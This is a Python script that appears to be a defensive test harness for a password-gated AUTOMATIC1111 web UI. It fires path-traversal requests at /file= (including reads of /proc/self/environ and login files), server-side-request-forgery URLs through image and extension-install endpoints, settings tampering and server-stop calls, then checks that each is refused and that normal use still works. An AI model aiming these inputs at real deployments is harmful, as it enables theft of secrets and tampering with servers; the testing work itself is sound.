"""Try what a visitor with the password must not be able to do on a running AUTOMATIC1111, and what they must.

python scripts/attack_a1111.py http://127.0.0.1:7860 --user fastsd --watch-dir FOLDER-OF-ITS-DATA [--direct]

Needs a web UI started by `fastsd webui launch --model ...` on this machine; the address is its link or
the gate's port.
Every line is one attempt; the exit code is 0 when all ended as they should. `--direct` talks to the web UI itself,
without the gate in front, which shows what the guard does alone. FASTSD_PASSWORD holds the password.
"""

import argparse
import base64
import http.cookiejar
import http.server
import json
import os
import struct
import sys
import tempfile
import threading
import urllib.error
import urllib.parse
import urllib.request
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

SECRET = "the-secret-of-another-file-4711"


class Listener(http.server.BaseHTTPRequestHandler):
    """Another program of this machine; counts who reaches it."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_HEAD = do_POST = do_GET

    def log_message(self, *_words: Any) -> None:
        pass


class Visitor:
    """A program with the password, at a link or at the web UI itself."""

    def __init__(self, url: str, user: str, password: str, *, direct: bool) -> None:
        self.url = url.rstrip("/")
        self.basic = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
        self._opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()), _NoRedirect()
        )
        if direct:
            form = urllib.parse.urlencode({"username": user, "password": password}).encode()
            self.raw("/login", form, {"Content-Type": "application/x-www-form-urlencoded"})
        self.config = json.loads(self.raw("/config")[1])
        self.functions = self.config["dependencies"]
        self.parts = {part["id"]: part for part in self.config["components"]}

    def raw(self, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        request = urllib.request.Request(
            self.url + path, data=body, headers={"Authorization": self.basic, **(headers or {})}
        )
        try:
            with self._opener.open(request, timeout=300) as answer:
                return answer.status, answer.read()
        except urllib.error.HTTPError as err:
            return err.code, err.read()

    def post(self, path: str, value: Any) -> tuple[int, bytes]:
        return self.raw(path, json.dumps(value).encode(), {"Content-Type": "application/json"})

    def call(self, number: int, data: list[Any]) -> tuple[int, bytes]:
        return self.post("/run/predict", {"fn_index": number, "data": data, "session_hash": "attack"})

    def upload(self, name: str, content: bytes) -> str:
        mark = "----fastsd"
        head = f'--{mark}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'.encode()
        body = head + content + f"\r\n--{mark}--\r\n".encode()
        status, answer = self.raw("/upload", body, {"Content-Type": f"multipart/form-data; boundary={mark}"})
        assert status == 200, answer[:200]
        return json.loads(answer)[0]

    def defaults(self, number: int) -> list[Any]:
        return [self.parts[part]["props"].get("value") for part in self.functions[number]["inputs"]]

    def with_input(self, kind: str) -> Iterator[tuple[int, int]]:
        """(function, place of the input) for every component of a kind."""
        for number, function in enumerate(self.functions):
            for place, part in enumerate(function["inputs"]):
                if self.parts[part]["type"] == kind:
                    yield number, place

    def behind(self, element: str) -> int:
        """The function behind a button."""
        for number, function in enumerate(self.functions):
            for target in function["targets"]:
                part = target[0] if isinstance(target, list) else target
                if self.parts.get(part, {}).get("props", {}).get("elem_id") == element:
                    return number
        raise KeyError(element)

    def labelled(self, *labels: str) -> int | None:
        """The function that has inputs of all these labels, and the fewest others."""
        found = []
        for number, function in enumerate(self.functions):
            there = {self.parts[part]["props"].get("label") for part in function["inputs"]}
            if set(labels) <= there:
                found.append((len(function["inputs"]), number))
        return min(found)[1] if found else None


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_words: Any) -> None:
        return None


def png(size: int = 64) -> bytes:
    """A small picture without any library."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(
        b"\0" + bytes((x * 4 % 256, y * 4 % 256, 90)[c] for x in range(size) for c in range(3)) for y in range(size)
    )
    head = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def attempts(v: Visitor, listener: str, secret: Path, data: Path) -> Iterator[tuple[str, Callable[[], str]]]:
    """(what is tried, the attempt); an attempt returns "" when it was refused, else what came of it."""
    kinds = ("file", "uploadbutton", "image", "gallery", "audio", "video", "dataframe", "model3d", "timeseries")
    named = {"name": str(secret), "data": None, "is_file": True, "orig_name": "x.txt", "size": 9}
    secrets = [str(secret), "/proc/self/environ", str(data.parent / "run" / "login"), f"file://{secret}"]

    def read_by(kind: str, payload: Any) -> Callable[[], str]:
        def attempt() -> str:
            for number, place in v.with_input(kind):
                values = v.defaults(number)
                values[place] = payload
                _status, answer = v.call(number, values)
                if SECRET.encode() in answer or b"HF_TOKEN" in answer:
                    return f"function {number} gave it"
                # The text of an error may name a copy that is served afterwards.
                for path in {word for word in answer.decode(errors="replace").split('"') if word.startswith("/tmp/")}:
                    if SECRET.encode() in v.raw("/file=" + urllib.parse.quote(path))[1]:
                        return f"function {number} left a copy at {path}"
            return ""

        return attempt

    for kind in kinds:
        yield f"a file by path in {kind}", read_by(kind, named)
        yield f"a file by path in {kind}, in a list", read_by(kind, [named])
    link = {**named, "name": f"{listener}/{'x.png'}"}
    for kind in ("file", "image", "gallery", "audio", "video"):
        yield f"an address in {kind}", lambda kind=kind: _fetched(read_by(kind, link))

    def served(path: str) -> Callable[[], str]:
        def attempt() -> str:
            status, answer = v.raw(path)
            return f"{status}, {len(answer)} bytes" if status in (200, 206, 301, 302, 307) else ""

        return attempt

    for path in secrets:
        yield f"/file={path}", served("/file=" + urllib.parse.quote(path, safe="/:"))
    code = data.parent / "code"
    for path in (
        *(code / name for name in ("webui.py", ".git/config", "config.json", "cache.json", "requirements.txt")),
        *(data / name for name in ("cache.json", "models/Stable-diffusion/store/tiny.safetensors", "extensions/x.py")),
    ):
        yield f"/file={path}", served(f"/file={path}")
        yield f"/file/{path}", served(f"/file/{path}")
    for path in (
        f"/file=outputs/..%2f..%2f..%2f..%2f..{secret}",
        f"/file=outputs/%252e%252e/..{secret}",
        f"/file={listener}/a",
        f"/file/{listener}/a",
        f"/file=http:%2f%2f{listener[7:]}/a",
        f"/file=HTTP://{listener[7:]}/a",
        f"/proxy={listener}/a",
        "/internal/sysinfo",
        "/internal/sysinfo-download",
        "/sdapi/v1/cmd-flags",
        "/%73dapi/v1/cmd-flags",
        f"/sd_extra_networks/thumb?filename={data}/models/../../../..{secret}",
        f"/sd_extra_networks/thumb?filename={secret.with_suffix('.png')}",
    ):
        yield path, lambda path=path: _fetched(served(path))

    def api(path: str, value: Any) -> Callable[[], str]:
        def attempt() -> str:
            status, answer = v.post(path, value)
            return f"{status} {answer[:80]!r}" if status == 200 else ""

        return attempt

    picture = base64.b64encode(png()).decode()
    for address in (f"{listener}/p.png", f"HTTP{listener[4:]}/p.png", f"file://{secret}", str(secret)):
        yield (
            f"img2img of {address}",
            lambda a=address: _fetched(api("/sdapi/v1/img2img", {"init_images": [a], "steps": 1})),
        )
        yield f"png-info of {address}", lambda a=address: _fetched(api("/sdapi/v1/png-info", {"image": a}))
        yield f"extras of {address}", lambda a=address: _fetched(api("/sdapi/v1/extra-single-image", {"image": a}))
        unit = {"enabled": True, "module": "canny", "image": address}
        yield (
            f"ControlNet of {address}",
            lambda a=address, unit=unit: _fetched(
                api("/controlnet/detect", {"controlnet_module": "none", "controlnet_input_images": [a]})
            ),
        )
    for path, value in (
        ("/sdapi/v1/create/embedding", {"name": "x", "num_vectors_per_token": 1, "overwrite_old": True}),
        ("/sdapi/v1/create/hypernetwork", {"name": "x", "enable_sizes": []}),
        ("/sdapi/v1/server-stop", {}),
        ("/sdapi/v1/server-kill", {}),
    ):
        yield path, api(path, value)

    def settings(key: str, value: Any) -> Callable[[], str]:
        def attempt() -> str:
            before = json.loads(v.raw("/sdapi/v1/options")[1]).get(key)
            v.post("/sdapi/v1/options", {key: value})
            v.post("/sdapi/v1/txt2img", {"steps": 1, "width": 64, "height": 64, "override_settings": {key: value}})
            v.post(
                "/sdapi/v1/txt2img",
                {
                    "steps": 1,
                    "width": 64,
                    "height": 64,
                    "override_settings": {key: value},
                    "override_settings_restore_afterwards": False,
                },
            )
            now = json.loads(v.raw("/sdapi/v1/options")[1]).get(key)
            v.post("/sdapi/v1/options", {key: before})
            return f"{key} is {now!r}" if now != before else ""

        return attempt

    for key, value in (
        ("outdir_samples", "/tmp/elsewhere"),
        ("outdir_save", "/tmp/elsewhere"),
        ("outdir_txt2img_samples", "/tmp/elsewhere"),
        ("samples_filename_pattern", "../../../x[seed]"),
        ("samples_format", "../x.png"),
        ("temp_dir", "/tmp/elsewhere"),
        ("api_enable_requests", False),
        ("api_forbid_local_requests", False),
        ("api_useragent", "x"),
        ("gradio_theme", "someone/theme"),
        ("disabled_extensions", ["sd-webui-controlnet"]),
        ("disable_all_extensions", "all"),
        ("restore_config_state_file", "/tmp/x.json"),
        ("control_net_models_path", "/tmp"),
        ("enable_reloading_ui_scripts", True),
        ("clean_temp_dir_at_start", True),
    ):
        yield f"setting {key}", settings(key, value)

    def made(what: str, act: Callable[[], Any]) -> Callable[[], str]:
        def attempt() -> str:
            before = _tree(data)
            act()
            new = sorted(_tree(data) - before)
            return f"{what}: {new[:3]}" if new else ""

        return attempt

    def install_extension() -> None:
        number = v.labelled("URL for extension's git repository")
        if number is not None:
            values = v.defaults(number)
            for place, part in enumerate(v.functions[number]["inputs"]):
                if v.parts[part]["props"].get("label") == "URL for extension's git repository":
                    values[place] = f"{listener}/evil.git"
            v.call(number, values)

    yield "an extension from an address", lambda: _fetched(made("extension", install_extension))

    def press(element: str, change: dict[str, Any]) -> Callable[[], None]:
        def act() -> None:
            # A button's first function may only clear a text.
            number = v.labelled(*change) if len(change) > 1 else None
            number = v.behind(element) if number is None else number
            values = v.defaults(number)
            for place, part in enumerate(v.functions[number]["inputs"]):
                label = v.parts[part]["props"].get("label")
                if label in change:
                    values[place] = change[label]
            v.call(number, values)

        return act

    merge = {
        "Primary model (A)": json.loads(v.raw("/sdapi/v1/sd-models")[1])[0]["title"],
        "Custom Name (Optional)": "../fastsd-evil",
        "Interpolation Method": "No interpolation",
        "Checkpoint format": "safetensors",
    }
    yield "a merged checkpoint", made("checkpoint", press("modelmerger_merge", merge))
    yield "an embedding by its button", made("embedding", press("train_create_embedding", {"Name": "../evil"}))

    def defaults() -> str:
        number = v.behind("ui_defaults_apply")
        values = v.defaults(number)
        for place, part in enumerate(v.functions[number]["inputs"]):
            if v.parts[part]["props"].get("label") == "Custom Name (Optional)":
                values[place] = "another"
        return "written" if b"Wrote" in v.call(number, values)[1] else ""

    yield "the page's defaults written to a file", defaults

    def prompts_file() -> None:
        line = f"--prompt x --outpath_samples {data}/written --outpath_grids {data}/written"
        v.post(
            "/sdapi/v1/txt2img",
            {
                "steps": 1,
                "width": 64,
                "height": 64,
                "save_images": True,
                "script_name": "prompts from file or textbox",
                "script_args": [False, False, "start", line],
            },
        )

    yield "a folder named in a line of prompts", made("picture", prompts_file)

    def honest_text() -> str:
        status, answer = v.post("/sdapi/v1/txt2img", {"prompt": "a house", "steps": 2, "width": 64, "height": 64})
        return "" if status == 200 and json.loads(answer)["images"] else f"{status} {answer[:200]!r}"

    def honest_image() -> str:
        status, answer = v.post(
            "/sdapi/v1/img2img", {"init_images": [picture], "steps": 2, "width": 64, "height": 64, "prompt": "a house"}
        )
        return "" if status == 200 and json.loads(answer)["images"] else f"{status} {answer[:200]!r}"

    def honest_upload() -> str:
        path = v.upload("prompts.txt", b"a house\na tree\n")
        for number, place in v.with_input("file"):
            props = v.parts[v.functions[number]["inputs"][place]]["props"]
            if props.get("label") == "Upload prompt inputs":
                values = v.defaults(number)
                values[place] = {"name": path, "data": None, "is_file": True, "orig_name": "prompts.txt", "size": 15}
                _status, answer = v.call(number, values)
                return "" if b"a tree" in answer else f"{answer[:200]!r}"
        return "there is no upload of prompts"

    def honest_setting() -> str:
        before = json.loads(v.raw("/sdapi/v1/options")[1])["CLIP_stop_at_last_layers"]
        if v.post("/sdapi/v1/options", {"CLIP_stop_at_last_layers": 2})[0] == 403:
            return ""  # the gate closes this door to all settings
        now = json.loads(v.raw("/sdapi/v1/options")[1])["CLIP_stop_at_last_layers"]
        v.post("/sdapi/v1/options", {"CLIP_stop_at_last_layers": before})
        return "" if now == 2 else f"it is {now}"

    for path in ("/", "/file=script.js", "/file=style.css", "/internal/ping", "/sdapi/v1/sd-models"):
        yield f"honest: {path}", lambda path=path: "" if v.raw(path)[0] == 200 else f"{v.raw(path)[0]}"
    yield "honest: txt2img", honest_text
    yield "honest: img2img", honest_image
    yield "honest: a file of prompts is uploaded and read", honest_upload
    yield "honest: a setting of taste", honest_setting


def _fetched(attempt: Callable[[], Any]) -> str:
    before = len(Listener.seen)
    result = attempt() or ""
    return f"another port was reached: {Listener.seen[before]}" if len(Listener.seen) > before else result


def _tree(folder: Path) -> set[str]:
    """Every file below a folder that is no picture in the outputs, no log and no cache."""
    found = set()
    for root, folders, files in os.walk(folder, followlinks=True):
        folders[:] = [name for name in folders if name not in ("outputs", "cache", "__pycache__", "tmp", ".git")]
        found |= {os.path.join(root, name) for name in files}
    return found


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--user", default="fastsd")
    parser.add_argument("--watch-dir", type=Path, required=True, help="the data folder of the installation")
    parser.add_argument("--direct", action="store_true")
    chosen = parser.parse_args()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    listener = f"http://127.0.0.1:{server.server_address[1]}"
    secret = Path(tempfile.mkdtemp()) / "secret.txt"
    secret.write_text(SECRET)
    secret.with_suffix(".png").write_bytes(png())
    visitor = Visitor(chosen.url, chosen.user, os.environ["FASTSD_PASSWORD"], direct=chosen.direct)
    count = failed = 0
    for what, attempt in attempts(visitor, listener, secret, chosen.watch_dir.absolute()):
        result = attempt()
        count, failed = count + 1, failed + bool(result)
        sys.stdout.write(f"{'FAILED' if result else 'ok    '} {what}{': ' + result if result else ''}\n")
        sys.stdout.flush()
    sys.stdout.write(f"{count} attempts, {failed} not as they should be\n")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
